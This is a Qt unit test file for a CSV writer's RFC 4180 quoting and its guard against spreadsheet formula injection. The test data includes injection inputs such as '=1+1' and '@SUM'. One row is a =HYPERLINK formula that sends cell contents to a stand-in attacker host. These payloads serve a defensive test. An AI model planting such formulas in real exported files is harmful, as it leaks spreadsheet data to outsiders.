// The shared CSV writer: RFC 4180 quoting and the guard against formulas in spreadsheets.

#include "core/CsvWriter.h"

#include <QTest>

using chartinsight::CsvWriter;

class TestCsvWriter : public QObject
{
    Q_OBJECT

private slots:
    void neutralized_data();
    void neutralized();
    void textFieldQuoting_data();
    void textFieldQuoting();
    void numberFieldUnquoted();
    void recordEndsInCrLf();
    void lineBreaksStayInField();
};

void TestCsvWriter::neutralized_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("expected");
    QTest::newRow("equals") << "=1+1" << "'=1+1";
    QTest::newRow("plus") << "+1+1" << "'+1+1";
    QTest::newRow("minus") << "-1+1" << "'-1+1";
    QTest::newRow("at") << "@SUM(1,1)" << "'@SUM(1,1)";
    QTest::newRow("tab") << "\t=1+1" << "'\t=1+1";
    QTest::newRow("carriage return") << "\r=1+1" << "'\r=1+1";
    QTest::newRow("line feed") << "\n=1+1" << "'\n=1+1";
    QTest::newRow("spaces then equals") << "   =1+1" << "'   =1+1";
    QTest::newRow("space then tab") << " \t@x" << "' \t@x";
    QTest::newRow("hyperlink") << "=HYPERLINK(\"https://attacker.example.test/?d=\"&A2,\"x\")"
                               << "'=HYPERLINK(\"https://attacker.example.test/?d=\"&A2,\"x\")";
    QTest::newRow("plain text") << "Smith, \"Jo\"" << "Smith, \"Jo\"";
    QTest::newRow("equals inside") << "a=b" << "a=b";
    QTest::newRow("empty") << "" << "";
    QTest::newRow("only spaces") << "   " << "   ";
    QTest::newRow("apostrophe kept") << "'=1" << "'=1";
    QTest::newRow("iso time") << "2026-12-04T15:27:14.123Z" << "2026-12-04T15:27:14.123Z";
}

void TestCsvWriter::neutralized()
{
    QFETCH(QString, text);
    QFETCH(QString, expected);
    QCOMPARE(CsvWriter::neutralized(text), expected);
}

void TestCsvWriter::textFieldQuoting_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("expected");
    QTest::newRow("plain") << "Echo March" << QByteArray("\"Echo March\"");
    QTest::newRow("comma and quotes") << "Smith, \"Jo\"" << QByteArray("\"Smith, \"\"Jo\"\"\"");
    QTest::newRow("formula") << "=1+1" << QByteArray("\"'=1+1\"");
    QTest::newRow("formula with quotes") << "=\"a\"" << QByteArray("\"'=\"\"a\"\"\"");
    QTest::newRow("empty") << "" << QByteArray("\"\"");
    QTest::newRow("utf-8") << QStringLiteral("Müller") << QByteArray("\"M\xc3\xbcller\"");
    QTest::newRow("json details") << "{\"count\":3}" << QByteArray("\"{\"\"count\"\":3}\"");
}

void TestCsvWriter::textFieldQuoting()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, expected);
    QCOMPARE(CsvWriter::textField(text), expected);
}

void TestCsvWriter::numberFieldUnquoted()
{
    QCOMPARE(CsvWriter::numberField(42), QByteArray("42"));
    QCOMPARE(CsvWriter::numberField(0), QByteArray("0"));
}

void TestCsvWriter::recordEndsInCrLf()
{
    QCOMPARE(CsvWriter::textRecord({QStringLiteral("a"), QStringLiteral("-b")}),
             QByteArray("\"a\",\"'-b\"\r\n"));
    QCOMPARE(CsvWriter::record({CsvWriter::numberField(7), CsvWriter::textField("x")}),
             QByteArray("7,\"x\"\r\n"));
    QCOMPARE(CsvWriter::textRecord({}), QByteArray("\r\n"));
}

void TestCsvWriter::lineBreaksStayInField()
{
    const QByteArray record =
        CsvWriter::textRecord({QStringLiteral("first\r\nsecond"), QStringLiteral("x\ny")});
    QCOMPARE(record, QByteArray("\"first\r\nsecond\",\"x\ny\"\r\n"));
    // Only the record's own CRLF ends outside quotes.
    int quotes = 0;
    int endsOutsideQuotes = 0;
    for (qsizetype i = 0; i < record.size(); ++i) {
        if (record.at(i) == '"')
            ++quotes;
        else if (record.at(i) == '\n' && quotes % 2 == 0)
            ++endsOutsideQuotes;
    }
    QCOMPARE(endsOutsideQuotes, 1);
}

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "TestCsvWriter.moc"
